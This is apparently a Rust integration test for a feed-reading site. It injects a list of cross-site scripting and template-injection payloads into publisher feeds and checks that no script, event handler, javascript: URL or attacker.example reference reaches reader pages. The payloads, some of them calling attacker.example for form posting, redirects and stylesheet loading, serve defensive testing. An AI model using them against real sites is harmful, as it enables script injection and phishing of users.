//! Whatever stands in a feed, a browser runs none of it.

use crate::kit::{Answer, Form, Paper, Piece, Stand, path_of, shared_data, until};

/// A few of the kind, for machines without the large list.
const USUAL: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<style>@import 'http://attacker.example/x.css'</style>",
    "<form action=http://attacker.example><input name=p><button>ok</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://attacker.example\">",
    "<base href=http://attacker.example/>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

fn payloads() -> Vec<String> {
    let own = USUAL.iter().map(|it| (*it).to_owned());
    let Some(file) = shared_data("attacks/html-payloads.json") else { return own.collect() };
    let text = std::fs::read_to_string(file).expect("the list of payloads");
    let listed: Vec<String> = serde_json::from_str(&text).expect("a list of texts");
    own.chain(listed).filter(|payload| !payload.trim().is_empty()).collect()
}

/// Tags and attributes of a page as a parser of HTML sees them.
fn check_page(path: &str, answer: &Answer) {
    let text = answer.text();
    for tag in tags(&text) {
        let name = tag.name.as_str();
        let has = |attribute: &str| tag.attributes.iter().any(|(name, _)| name == attribute);
        let is_bad = match name {
            "script" => !(has("src") || tag.value("type") == "application/ld+json"),
            "style" | "iframe" | "object" | "embed" | "base" | "math" | "frame" | "applet" => true,
            "svg" | "set" | "animate" | "foreignobject" => !is_ours(&tag),
            _ => false,
        };
        assert!(!is_bad, "{path}: <{name} {:?}>", tag.attributes);
        for (attribute, value) in &tag.attributes {
            assert!(!attribute.starts_with("on"), "{path}: <{name} {attribute}={value}>");
            assert!(attribute != "style" && attribute != "srcdoc", "{path}: <{name} {attribute}>");
            let value: String =
                value.chars().filter(|it| !it.is_whitespace() && !it.is_control()).collect();
            let value = value.to_lowercase();
            if ["href", "src", "action", "formaction", "srcset", "poster", "xlink:href"]
                .contains(&attribute.as_str())
            {
                let bad = ["javascript:", "vbscript:", "data:"];
                assert!(!bad.iter().any(|it| value.starts_with(it)), "{path}: <{name} {value}>");
            }
            if ["src", "srcset", "action", "formaction"].contains(&attribute.as_str()) {
                let own = value.starts_with('/') && !value.starts_with("//");
                assert!(own || value.is_empty(), "{path}: <{name} {attribute}={value}>");
            }
        }
    }
}

struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

impl Tag {
    fn value(&self, name: &str) -> &str {
        let found = self.attributes.iter().find(|(known, _)| known == name);
        found.map_or("", |(_, value)| value)
    }
}

/// Our own drawings have a class or are hidden from those who cannot see them.
fn is_ours(tag: &Tag) -> bool {
    !tag.value("class").is_empty() || tag.value("aria-hidden") == "true"
}

/// The tags of a page whose attributes are quoted, as ours all are.
fn tags(text: &str) -> Vec<Tag> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some((_before, after)) = rest.split_once('<') {
        rest = after;
        let name: String = after.chars().take_while(|it| it.is_ascii_alphanumeric()).collect();
        if name.is_empty() {
            continue;
        }
        let mut inside = after.get(name.len()..).unwrap_or_default();
        let mut attributes = Vec::new();
        loop {
            inside = inside.trim_start_matches([' ', '\n', '\t', '\r', '/']);
            let end = inside.find(['=', '>', ' ', '\n', '/']).unwrap_or(inside.len());
            let (attribute, after) = inside.split_at(end);
            if attribute.is_empty() {
                rest = after;
                break;
            }
            let (value, after) = match after.strip_prefix("=\"") {
                Some(quoted) => quoted.split_once('"').unwrap_or((quoted, "")),
                None => match after.strip_prefix('=') {
                    Some(bare) => bare.split_at(bare.find([' ', '>']).unwrap_or(bare.len())),
                    None => ("", after),
                },
            };
            attributes.push((attribute.to_lowercase(), value.to_owned()));
            inside = after;
        }
        found.push(Tag { name: name.to_lowercase(), attributes });
    }
    found
}

/// A piece with payloads wherever a publisher can write something.
fn piece(number: usize, some: &[String]) -> Piece {
    let text = |place: usize| some.get(place % some.len()).cloned().unwrap_or_default();
    let clean = Piece::new(&format!("Report number {number} from the harbour"));
    let mut paragraphs = clean.paragraphs.clone();
    for (place, payload) in some.iter().enumerate() {
        paragraphs.insert((place % 5) + 1, payload.clone());
    }
    let picture = format!(
        "<media:content xmlns:media=\"http://search.yahoo.com/mrss/\" medium=\"image\" \
         url=\"http://attacker.example/{number}.jpg\"><media:description><![CDATA[{}]]>\
         </media:description><media:credit><![CDATA[{}]]></media:credit></media:content>\
         <category><![CDATA[{}]]></category>",
        text(2).replace("]]>", ""),
        text(3).replace("]]>", ""),
        text(4).replace("]]>", ""),
    );
    Piece {
        headline: format!("Report number {number} {}", text(0)),
        lead: format!("{} {}", clean.lead, text(1)),
        author: text(5),
        paragraphs,
        more: picture,
        ..clean
    }
}

fn publish(papers: [&Paper; 2], payloads: &[String]) -> usize {
    let mut count = 0;
    // Of the long list more stand in one piece, or there would be hundreds.
    for some in payloads.chunks(if payloads.len() > 100 { 8 } else { 2 }) {
        let paper = papers.get(count % 2).expect("two papers");
        paper.print(&piece(count, some));
        count += 1;
    }
    count
}

#[test]
fn the_reader_of_tags_reads_tags() {
    let found = tags("a < b <p class=\"x\" hidden><a href='y' onclick=z>t</a><br/>");
    let told: Vec<String> =
        found.iter().map(|tag| format!("{} {:?}", tag.name, tag.attributes)).collect();
    assert_eq!(
        told,
        [
            "p [(\"class\", \"x\"), (\"hidden\", \"\")]",
            "a [(\"href\", \"'y'\"), (\"onclick\", \"z\")]",
            "br []",
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_publisher_writes_runs_at_a_readers() {
    let stand = Stand::open().await;
    let gull = stand.paper("The Morning Gull", Form::FullText).await;
    let heron = stand.paper("Heron Daily", Form::Summary).await;
    let payloads = payloads();
    let count = publish([&gull, &heron], &payloads);
    let articles = until("all reports", async || {
        let now = stand.store.articles().latest(None, 500).await.expect("articles");
        (now.len() >= count && now.iter().all(|it| it.story.is_some())).then_some(now)
    })
    .await;
    stand.indexed().await;
    let (_id, mut reader) = stand.reader("nina@reader.example").await;
    let mut bodies = 0;
    for article in &articles {
        let path = path_of(article);
        let answer = reader.get(&path).await;
        assert_eq!(answer.status, 200, "{path}");
        bodies += usize::from(answer.text().contains("First published by"));
        check_page(&path, &answer);
        check_page(&path, &stand.browser().get(&path).await);
    }
    assert!(bodies * 2 >= articles.len(), "{bodies} whole texts of {}", articles.len());
    for path in [
        "/",
        "/title/the-morning-gull",
        "/title/heron-daily",
        "/section/world",
        "/search?q=report",
        "/history",
        "/picks",
        "/topic/world",
    ] {
        check_page(path, &reader.get(path).await);
    }
    for payload in payloads.iter().take(120) {
        let query: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        let path = format!("/search?q={query}&title={query}&lang={query}");
        check_page(&path, &reader.get(&path).await);
    }
}
